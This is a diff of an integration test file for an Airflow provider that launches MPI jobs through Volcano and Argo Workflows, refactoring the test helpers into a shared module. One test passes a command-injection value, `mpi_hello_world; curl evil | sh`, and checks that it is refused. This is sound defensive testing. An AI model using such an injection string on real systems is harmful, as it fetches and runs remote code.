@@ -2,50 +2,26 @@
 
 from __future__ import annotations
 
-import logging
-
 import pytest
 
 from airflow_provider_volcano_argo import templates
 from airflow_provider_volcano_argo.sandbox.kubelet import ScriptedProgram
 
-from .helpers import pod_log, wait_for
+from .helpers import pod_log, run_dag, wait_for, xcom_result
 
 pytestmark = pytest.mark.integration
-
-
-@pytest.fixture
-def mpi_namespace(sandbox, sandbox_namespace, airflow_db, monkeypatch):
-    """A namespace with the shipped template and Argo RBAC, and Airflow's connection as the least-privilege SA."""
-    ns = sandbox_namespace
-    for name in templates.TEMPLATE_FILES:
-        body = templates.workflow_template(name)
-        body["metadata"]["namespace"] = ns
-        sandbox.apply(body)
-    for doc in templates.argo_rbac(ns):
-        sandbox.apply(doc)
-    monkeypatch.setenv("AIRFLOW_CONN_KUBERNETES_DEFAULT", sandbox.airflow_connection())
-    return ns
-
-
-def _run(dag, caplog, capfd, **conf) -> tuple[dict, str]:
-    caplog.set_level(logging.INFO)
-    dagrun = dag.test(run_conf=conf)
-    states = {ti.task_id: ti.state for ti in dagrun.get_task_instances()}
-    out, err = capfd.readouterr()
-    return states, caplog.text + out + err
 
 
 def test_etl_then_mpi_then_downstream_succeeds_with_every_rank_in_the_log(sandbox, mpi_namespace, caplog, capfd):
     from tests.dags.mpi_test_dags import etl_mpi_etl
 
-    states, log = _run(etl_mpi_etl, caplog, capfd, namespace=mpi_namespace)
+    states, log = run_dag(etl_mpi_etl, caplog, capfd, namespace=mpi_namespace)
     assert states == {"extract": "success", "mpi": "success", "load": "success"}, log[-3000:]
     for rank in range(3):
         assert f"rank {rank} out of 3 processors" in log
     assert "-> Running" in log and "Completed" in log
 
-    result = _xcom(etl_mpi_etl.dag_id, "mpi")
+    result = xcom_result(etl_mpi_etl.dag_id, "mpi")
     assert result["phase"] == "Completed" and result["status"] == "success"
     assert result["namespace"] == mpi_namespace and result["job_name"].startswith("mpi-")
     assert result["task_status_count"]["mpimaster"]["phase"] == {"Succeeded": 1}
@@ -55,24 +31,10 @@ def test_etl_then_mpi_then_downstream_succeeds_with_every_rank_in_the_log(sandbo
     wait_for(lambda: not sandbox.api.list("pods", mpi_namespace)["items"], 60, what="pods collected")
 
 
-def _xcom(dag_id: str, task_id: str):
-    from airflow.models.xcom import XComModel
-    from airflow.utils.session import create_session
-
-    with create_session() as session:
-        row = (
-            session.query(XComModel)
-            .filter(XComModel.dag_id == dag_id, XComModel.task_id == task_id, XComModel.key == "return_value")
-            .order_by(XComModel.timestamp.desc())
-            .first()
-        )
-        return XComModel.deserialize_value(row)
-
-
 def test_hostile_parameters_are_refused_before_anything_is_created(sandbox, mpi_namespace, caplog, capfd):
     from tests.dags.mpi_test_dags import mpi_hostile
 
-    states, log = _run(
+    states, log = run_dag(
         mpi_hostile, caplog, capfd, namespace=mpi_namespace, mpi_command="mpi_hello_world; curl evil | sh"
     )
     assert states == {"mpi": "failed"}
@@ -90,7 +52,7 @@ def test_failing_master_fails_the_task_with_diagnostics(sandbox, mpi_namespace, 
         container="mpimaster",
     )
     try:
-        states, log = _run(mpi_failing, caplog, capfd, namespace=mpi_namespace)
+        states, log = run_dag(mpi_failing, caplog, capfd, namespace=mpi_namespace)
     finally:
         sandbox.kubelet.programs.clear()
     assert states == {"mpi": "failed"}
@@ -103,7 +65,7 @@ def test_failing_master_fails_the_task_with_diagnostics(sandbox, mpi_namespace, 
 def test_gang_never_admitted_fails_after_schedule_timeout_naming_the_reason(sandbox, mpi_namespace, caplog, capfd):
     from tests.dags.mpi_test_dags import mpi_unschedulable
 
-    states, log = _run(mpi_unschedulable, caplog, capfd, namespace=mpi_namespace)
+    states, log = run_dag(mpi_unschedulable, caplog, capfd, namespace=mpi_namespace)
     assert states == {"mpi": "failed"}
     assert "not admitted by the gang scheduler within schedule_timeout" in log
     assert "NotEnoughResources" in log and "cpu" in log
@@ -125,13 +87,13 @@ def test_retried_task_reattaches_to_the_live_workflow(sandbox, mpi_namespace, ca
         ScriptedProgram(lines=["the only run"], duration=4), namespace=mpi_namespace, container="mpimaster"
     )
     try:
-        states, log = _run(mpi_reattach, caplog, capfd, namespace=mpi_namespace)
+        states, log = run_dag(mpi_reattach, caplog, capfd, namespace=mpi_namespace)
     finally:
         sandbox.kubelet.programs.clear()
     assert states == {"mpi": "success"}, log[-3000:]
     assert "worker lost after submission" in log and "Reattaching to Argo Workflow" in log
     assert len(set(created)) == 1, created  # exactly one Volcano Job ever existed
-    result = _xcom("test_mpi_reattach", "mpi")
+    result = xcom_result("test_mpi_reattach", "mpi")
     assert result["job_name"] == created[0]  # the second try followed the first try's job
     assert log.count("the only run") == 1  # its log shown once
 
@@ -141,7 +103,7 @@ def test_execution_timeout_while_deferred_stops_and_removes_everything(sandbox, 
 
     sandbox.kubelet.programs.script(ScriptedProgram(duration=3600), namespace=mpi_namespace, container="mpimaster")
     try:
-        states, log = _run(mpi_timeout, caplog, capfd, namespace=mpi_namespace)
+        states, log = run_dag(mpi_timeout, caplog, capfd, namespace=mpi_namespace)
     finally:
         sandbox.kubelet.programs.clear()
     assert states == {"mpi": "failed"}
@@ -158,7 +120,7 @@ def test_blocking_mode_behaves_the_same(sandbox, mpi_namespace, caplog, capfd):
     sandbox.set_airflow_rules(
         [*templates.airflow_rules(), *templates.airflow_roles(mpi_namespace)[1]["rules"]], mpi_namespace
     )
-    states, log = _run(mpi_blocking, caplog, capfd, namespace=mpi_namespace)
+    states, log = run_dag(mpi_blocking, caplog, capfd, namespace=mpi_namespace)
     assert states == {"mpi": "success"}, log[-3000:]
     assert f"created WorkflowTemplate {mpi_namespace}/volcano-mpi" in log
     assert "rank 1 out of 2 processors" in log and "-> Completed" in log
@@ -194,7 +156,7 @@ def test_volcano_restart_shows_each_attempt_once_under_its_header(sandbox, mpi_n
     helper = threading.Thread(target=evict_once)
     helper.start()
     try:
-        states, log = _run(plain, caplog, capfd, namespace=mpi_namespace, mpi_command="mpi_hello_world")
+        states, log = run_dag(plain, caplog, capfd, namespace=mpi_namespace, mpi_command="mpi_hello_world")
     finally:
         helper.join(120)
         sandbox.kubelet.programs.clear()
@@ -202,7 +164,7 @@ def test_volcano_restart_shows_each_attempt_once_under_its_header(sandbox, mpi_n
     assert "(job attempt 1, container restart 0)" in log and "(job attempt 2, container restart 0)" in log
     for line in lines:
         assert log.count(line) == 2  # once per attempt, never repeated
-    assert _xcom("test_mpi_hostile", "mpi")["retry_count"] == 1
+    assert xcom_result("test_mpi_hostile", "mpi")["retry_count"] == 1
 
 
 def test_name_taken_by_another_task_instance_is_not_adopted(sandbox, mpi_namespace, caplog, capfd):
@@ -215,7 +177,7 @@ def test_name_taken_by_another_task_instance_is_not_adopted(sandbox, mpi_namespa
         "spec": {"workflowTemplateRef": {"name": "volcano-mpi"}, "shutdown": "Stop"},
     }
     sandbox.api.create("workflows", foreign, mpi_namespace)
-    states, log = _run(mpi_named, caplog, capfd, namespace=mpi_namespace)
+    states, log = run_dag(mpi_named, caplog, capfd, namespace=mpi_namespace)
     assert states == {"mpi": "failed"}
     assert "already exists" in log and "belongs to another task instance" in log
     kept = sandbox.api.get("workflows", "nightly-mpi", mpi_namespace)
